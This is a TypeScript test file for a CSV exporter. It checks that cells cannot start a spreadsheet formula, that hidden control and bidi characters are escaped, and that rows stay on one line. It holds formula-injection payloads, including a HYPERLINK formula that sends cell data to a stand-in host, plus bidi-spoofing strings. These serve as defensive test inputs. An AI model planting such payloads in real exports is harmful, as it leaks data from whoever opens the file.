import { execFileSync, spawnSync } from "node:child_process";
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "vitest";
import { z } from "zod";
import { csvHeader, csvRow, type ExportedEntry } from "./index.ts";

const entry = (resource: string): ExportedEntry => ({
  index: 42,
  id: "rec_1",
  kind: "exchange.outcome",
  at: "2026-11-28T12:00:00.000Z",
  principal: "developer@example.com",
  resource,
});

// Read where it lies: the list is not ours.
const corpora = process.env["GATEHOUSE_CORPORA"] ?? join(import.meta.dirname, "../../../shared/corpora");
const list = join(corpora, "payloads", "csv", "formulas.txt");
const isListPresent = existsSync(list);
if (!isListPresent)
  process.stderr.write(`csv payloads: skipped, no list at ${list} (set GATEHOUSE_CORPORA)\n`);
const isPythonPresent = spawnSync("python3", ["-c", "import csv"]).status === 0;
if (!isPythonPresent) process.stderr.write("csv read by Python: skipped, there is no python3\n");

/** The cells as a reader that is not ours finds them. */
function readByPython(file: string): string[][] {
  const program =
    "import csv,io,json,sys; print(json.dumps(list(csv.reader(io.TextIOWrapper(sys.stdin.buffer, encoding='utf-8', newline='')))))";
  const out = execFileSync("python3", ["-c", program], { input: file });
  return z.array(z.array(z.string())).parse(JSON.parse(out.toString("utf8")));
}

const resourceColumn = csvHeader.trimEnd().split(",").indexOf("resource");
/** What a spreadsheet, or one that trims first, takes for the beginning of a formula. */
const isFormula = (cell: string): boolean => /^[\s"]*[=+\-@\t\r\u2013\uFF1D]/.test(cell);

const ownPayloads = [
  "=1+1",
  "+1",
  "-1+1",
  "@SUM(A1)",
  "\t=1+1",
  "\r=1+1",
  "  =1+1",
  '"=1+1"',
  "\uFF1D1+1",
  "\u2013 2+3",
  '=HYPERLINK("https://example.com?"&A1,"x")',
  'a "quoted", one\r\nand another',
  "\u202Egro.elpmaxe",
];

test.runIf(isPythonPresent)("Python reads every cell of ours, and none is a formula", () => {
  const payloads = [...ownPayloads, ...(isListPresent ? readFileSync(list, "utf8").split("\n") : [])];
  const file = csvHeader + payloads.map((payload) => csvRow(entry(payload))).join("");
  const [header = [], ...rows] = readByPython(file);
  expect(rows).toHaveLength(payloads.length);
  for (const [row, payload] of rows.map((each, index) => [each, payloads[index] ?? ""] as const)) {
    expect(row).toHaveLength(header.length);
    expect([row[0], row.at(-1)]).toEqual(["42", "rec_1"]);
    expect(isFormula(row[resourceColumn] ?? ""), payload).toBe(false);
  }
});

test("what cannot be seen is named, and a line stays one line", () => {
  const row = csvRow(entry('b/\u202Eevil\u200B\u001B[31m\u0000 "quoted",\r\nnext'));
  expect(row).toContain('"b/\\u{202e}evil\\u{200b}\\u{1b}[31m\\u{0} ""quoted"",\\u{d}\\u{a}next"');
  expect(row.indexOf("\n")).toBe(row.length - 1);
});

test("what is no formula is left as it is", () => {
  expect(csvRow(entry("projects/p/zones/z"))).toContain(",projects/p/zones/z,");
});
